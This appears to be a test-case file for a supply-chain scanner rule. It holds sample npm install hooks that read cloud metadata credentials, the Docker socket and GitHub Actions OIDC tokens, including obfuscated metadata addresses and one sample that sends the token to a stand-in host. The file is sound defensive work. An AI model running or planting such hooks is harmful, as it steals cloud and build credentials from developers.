import { defineCases } from '../../src/rule.ts';

const install = { scripts: { preinstall: 'node s.js' } };
const installing = (code: string) => ({ manifest: install, files: { 'index.js': '', 's.js': code } });

export default defineCases({
  bad: [
    {
      name: 'the cloud’s metadata at install',
      ...installing("fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')"),
    },
    {
      name: 'the container engine’s socket at install',
      ...installing(
        "const http = require('http');\nhttp.get({ socketPath: '/var/run/docker.sock', path: '/containers/json' }, () => {})",
      ),
    },
    {
      name: 'with curl, when loaded',
      code: "require('child_process').execSync('curl -s -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/')",
    },
    {
      name: 'an address put together from numbers',
      code: "const ip = [169, 254, 169, 254].join('.');\nfetch(`http://${ip}/latest/meta-data/iam/security-credentials/`)",
    },
    { name: 'an address as one number', code: "fetch('http://2852039166/latest/meta-data/')" },
    {
      name: 'a token that says who the build is',
      ...installing(
        'const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\nif (url) fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });',
      ),
    },
    {
      name: 'the same, and what comes back goes to a stranger',
      alone: 'block',
      ...installing(
        'const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\n(async () => {\n  const answer = await fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });\n  const { value } = await answer.json();\n  await fetch(`https://log.stamps.example/entries?attestation=${value}`);\n})();',
      ),
    },
    {
      name: 'the same, by which it logs in to a registry',
      alone: 'review',
      ...installing(
        "const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;\n(async () => {\n  const answer = await fetch(`${url}&audience=npm`, { headers: { authorization: `bearer ${token}` } });\n  const { value } = await answer.json();\n  await fetch('https://registry.npmjs.org/-/npm/v1/oidc/token/exchange', { method: 'POST', headers: { authorization: `bearer ${value}` } });\n})();",
      ),
    },
  ],
  ok: [
    {
      name: 'a step of a build that logs in when it is asked to',
      code: 'exports.token = async (audience) => (await fetch(`${process.env.ACTIONS_ID_TOKEN_REQUEST_URL}&audience=${audience}`, { headers: { authorization: `bearer ${process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } })).json()',
    },
    {
      name: 'whether there is such a token',
      ...installing(
        "if (process.env.ACTIONS_ID_TOKEN_REQUEST_URL) console.log('in a build'); fetch('https://api.weather.example')",
      ),
    },
    {
      name: 'a cloud’s client, when it is used',
      code: "exports.credentials = () => fetch('http://169.254.169.254/latest/meta-data/iam/')",
    },
    {
      name: 'a tool for containers',
      code: "const http = require('http'); exports.list = (done) => http.get({ socketPath: '/var/run/docker.sock', path: '/containers/json' }, done)",
    },
    {
      name: 'a list of addresses that are refused',
      code: "exports.refused = ['169.254.169.254', 'metadata.google.internal']; fetch('https://api.weather.example')",
    },
  ],
});
